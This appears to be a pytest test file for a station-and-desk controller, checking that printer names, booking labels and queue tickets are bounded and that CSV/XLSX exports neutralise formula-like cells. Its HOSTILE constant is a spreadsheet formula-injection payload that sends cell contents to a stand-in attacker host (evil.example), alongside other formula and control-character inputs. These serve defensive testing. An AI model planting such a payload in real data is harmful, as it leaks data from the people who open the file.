"""What stations and staff send is bounded where it enters, and nothing they send makes a message
too large to deliver or a spreadsheet cell into a formula (issue 13)."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import aiohttp
import msgspec
import pytest
from openpyxl import load_workbook

from controller import sessions, staff
from controller.app import create_app
from controller.reports.export import export
from controller.rules import Booking, TicketQueue
from controller.settings import make_settings
from controller.web import keys
from controller.web.desk import SITE
from espace import protocol as p
from espace.clock import ManualClock, parse_instant
from tests.support.served import Served, serve

PASSWORD = "correct-horse-battery"
HOSTILE = '=HYPERLINK("http://evil.example/?leak="&B2,"Open report")'


def at(hhmm: str) -> float:
    return parse_instant(f"2026-11-19T{hhmm}")


class Desk:
    def __init__(self, served: Served, http: aiohttp.ClientSession, csrf: str) -> None:
        self.served, self.app, self.http, self.csrf = served, served.app, http, csrf

    async def post(self, path: str, body: dict[str, Any] | None = None) -> tuple[int, Any]:
        async with self.http.post(self.served.url + path, json=body or {}, headers={"X-CSRF-Token": self.csrf}) as r:
            return r.status, await r.json()


@pytest.fixture
async def desk(tmp_path: Path) -> AsyncIterator[Desk]:
    served = await serve(create_app(make_settings(database=str(tmp_path / "db")), ManualClock(at("10:00"))))
    await served.app[keys.STORE].write(lambda db: staff.add_staff(db, "desk1", PASSWORD, "steward", "fr", 0.0))
    async with aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True)) as http:
        async with http.post(served.url + "/login", json={"login": "desk1", "password": PASSWORD}) as r:
            csrf = (await r.json())["me"]["csrf"]
        yield Desk(served, http, csrf)
    await served.close()


# ---------------------------------------------------------------- what stations send


async def test_a_station_cannot_report_a_formula_as_its_printer(tmp_path: Path) -> None:
    """A kiosk tablet's token, say: main stored the printer as given, and it became a formula in XLSX."""
    served = await serve(create_app(make_settings(database=str(tmp_path / "db")), ManualClock(at("10:00"))))
    try:
        token = await served.add_station("TAB-03")
        async with aiohttp.ClientSession() as http, http.ws_connect(served.ws_url) as ws:
            await ws.send_str(p.encode(p.Hello(station="TAB-03", token=token)))
            assert (await ws.receive_json())["type"] == "welcome"
            job = {"type": "print_job", "id": p.new_id(), "seq": 1, "at": at("10:00"), "job": "7", "printer": HOSTILE, "pages": 1}
            await ws.send_str(json.dumps(job))
            msg = await ws.receive_json()  # refused for good as malformed; its seq is consumed, the link stays up
            assert (msg["type"], msg["id"], msg.get("retry", False)) == ("event_reject", job["id"], False), msg
        rows = await served.app[keys.STORE].read(lambda db: db.execute("SELECT count(*) FROM print_jobs").fetchone()[0])
        assert rows == 0
    finally:
        await served.close()


@pytest.mark.parametrize("name", [HOSTILE, "+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx", "HP\x07", "PRN\u202e1", "x" * 128])
def test_station_names_are_bounded_and_validated_by_the_wire_format(name: str) -> None:
    job = {"type": "print_job", "id": "a", "seq": 1, "at": 1.0, "job": "1", "printer": name, "pages": 1}
    with pytest.raises(p.ProtocolError):
        p.decode_from_agent(json.dumps(job))
    with pytest.raises(p.ProtocolError):
        p.decode_from_agent(json.dumps({"type": "hello", "station": "PC-01", "token": "t", "hostname": name[:253] + "\x00"}))
    cleaned = p.os_name(name, 127)  # what an agent sends for such a name: accepted
    assert p.decode_from_agent(json.dumps({**job, "printer": cleaned})).printer == cleaned  # type: ignore[union-attr]


def test_real_printer_names_pass() -> None:
    for name in ("VirtualPDF", "HP LaserJet 400 M401 (Étage 2)", "\\\\print-srv\\Accueil", ""):
        assert msgspec.convert({"type": "print_job", "id": "a", "seq": 1, "at": 1.0, "job": "1", "printer": name, "pages": 1}, p.PrintJob).printer == name
        assert p.os_name(name, 127) == name


# ---------------------------------------------------------------- what the back office opens


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exports_neutralise_cells_that_a_spreadsheet_reads_as_formulas(tmp_path: Path, fmt: str) -> None:
    """Printer names stored before the wire refused them (or by any other way) still reach Excel as text."""
    from controller.store.store import connect, migrate

    db = connect(tmp_path / "db")
    migrate(db)
    names = [HOSTILE, "+1", "-1", "@x", "\tx", "\rx", "PRN-1"]
    for i, name in enumerate(names):
        db.execute("INSERT INTO print_jobs (id, job_key, station, printer, pages, colour_pages, at, source) VALUES (?,?,?,?,?,?,?,?)",
                   [f"j{i}", f"k{i}", "PC-01", name, 1, 0, at("10:00") + i, "cups"])  # fmt: skip
    out = io.BytesIO()
    export(db.conn, "prints", "2026-11-19", "2026-11-19", fmt, out)
    if fmt == "csv":
        got = [row[1] for row in csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig"), newline=""))][1:]
    else:
        sheet = load_workbook(io.BytesIO(out.getvalue())).active
        cells = [row[1] for row in sheet.iter_rows(min_row=2)]
        assert all(c.data_type == "s" for c in cells)  # text, never a formula
        got = [c.value.replace("\n", "\r") for c in cells]  # XML keeps no lone CR: it reads back as LF
    assert got == ["'" + n for n in names[:-1]] + ["PRN-1"]


# ---------------------------------------------------------------- what staff type at the desk


@pytest.mark.parametrize("label", ["Atelier\x07CV", "CV\u202eexe.", "a\u2066b", "line\nbreak", "\x00"])
async def test_booking_labels_refuse_control_and_bidi_characters(desk: Desk, label: str) -> None:
    status, body = await desk.post("/api/bookings", {"label": label, "start": "2026-11-19T14:00", "end": "2026-11-19T15:00", "stations": ["PC-01"]})
    assert (status, body["error"], body.get("reason")) == (400, "bad_booking", "label_characters"), body


async def test_bookings_per_station_and_day_are_capped(desk: Desk) -> None:
    from controller.rules.bookings import MAX_PER_STATION_DAY

    base = at("11:00")
    for i in range(MAX_PER_STATION_DAY):
        status, body = await desk.post("/api/bookings", {"label": f"b{i}", "start": base + i * 600, "end": base + i * 600 + 60, "stations": ["PC-01"]})
        assert status == 201, body
    status, body = await desk.post("/api/bookings", {"label": "one more", "start": at("18:00"), "end": at("18:01"), "stations": ["PC-01", "PC-02"]})
    assert (status, body["error"], body["reason"]) == (409, "booking_conflict", "too_many_bookings"), body
    assert body["params"]["station"] == "PC-01"
    status, _ = await desk.post("/api/bookings", {"label": "elsewhere", "start": at("18:00"), "end": at("18:01"), "stations": ["PC-02"]})
    assert status == 201


async def test_rules_that_would_not_fit_an_agent_frame_are_refused_at_the_desk(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    site = desk.app[SITE]
    now = site.clock.now()
    size = sessions.rules_bytes(sessions.build_rules(site, "PC-01", now))
    monkeypatch.setattr(sessions, "RULES_BUDGET", size + 100)  # room for about one more booking
    status, _ = await desk.post("/api/bookings", {"label": "x" * 10, "start": at("14:00"), "end": at("15:00"), "stations": ["PC-01"]})
    assert status == 201
    status, body = await desk.post("/api/bookings", {"label": "é" * 120, "start": at("15:00"), "end": at("16:00"), "stations": ["PC-01"]})
    assert (status, body.get("reason")) == (409, "rules_too_large"), body
    assert [b.label for b in site.bookings.values()] == ["x" * 10]  # nothing half-made


async def test_stored_bookings_never_make_a_welcome_an_agent_refuses(desk: Desk) -> None:
    """Main: ~95 one-minute bookings with control-character labels pushed PC-01's rules past 64 KiB
    and the agent refused every welcome. Such bookings, stored before the caps, are now cut to fit."""
    site = desk.app[SITE]
    for i in range(120):
        b = Booking(id=f"old{i}", label="\x01" * 200, start=at("11:00") + i * 120, end=at("11:01") + i * 120, stations=("PC-01",))
        site.bookings[b.id] = b
    site._changed_bookings()
    rules = sessions.build_rules(site, "PC-01", site.clock.now())
    welcome = p.encode(p.Welcome(station="PC-01", server_time=site.clock.now(), rules=rules, token="t" * 200, locked="x" * 200))
    assert len(welcome.encode()) <= p.MAX_FRAME_BYTES
    assert isinstance(p.decode_from_controller(welcome), p.Welcome)
    assert 0 < len(rules.bookings) < 120


async def test_live_tickets_are_capped_with_a_clear_error(desk: Desk) -> None:
    site = desk.app[SITE]
    site.queue.max_live = 3
    _busy(desk)
    for _ in range(3):
        assert (await desk.post("/api/queue/tickets"))[0] == 201
    status, body = await desk.post("/api/queue/tickets")
    assert (status, body["error"], body["params"]) == (409, "queue_full", {"max": 3})
    assert len(site.queue.tickets()) == 3


def _busy(desk: Desk) -> None:
    floor, now = desk.app[keys.FLOOR], desk.app[keys.CLOCK].now()
    for sid, live in floor.live.items():
        live.connected = True
        live.session = p.SessionInfo(session_id=p.new_id(), start=now, end=now + 3600)
        floor.changed(sid)


async def test_queue_changes_are_written_incrementally(desk: Desk) -> None:
    """Main deleted and rewrote the whole queue_tickets table for every change."""
    site, store = desk.app[SITE], desk.app[keys.STORE]
    _busy(desk)
    for _ in range(150):
        site.issue_ticket()
    await site.flush()
    before = await store.write(lambda db: db.conn.total_changes)
    status, body = await desk.post("/api/queue/tickets")
    assert status == 201
    after = await store.write(lambda db: db.conn.total_changes)
    assert after - before <= 3, after - before  # the new ticket's row, not 151 rows again
    code = site.queue.waiting()[5].code
    assert (await desk.post(f"/api/queue/tickets/{code}/cancel"))[0] == 200
    stored = await store.read(lambda db: {r[0]: (r[1], r[2]) for r in db.execute("SELECT code, called, station FROM queue_tickets")})
    assert stored == {t.code: (t.called, t.station) for t in site.queue.tickets()}


def test_queue_positions_are_computed_in_one_pass_and_agree_with_position() -> None:
    import random

    q = TicketQueue(rng=random.Random(3), max_live=2000)
    for i in range(2000):
        q.issue(float(i), accessible=i % 7 == 0)
    q.station_freed("PC-01", 2000.0)
    positions = q.positions()
    for t in q.waiting()[:50] + q.waiting()[-50:]:
        assert positions[t.code] == q.position(t.code)
    assert len(positions) == len(q.waiting()) == 1999
    assert max(positions.values()) == sum(1 for t in q.waiting() if not t.accessible)
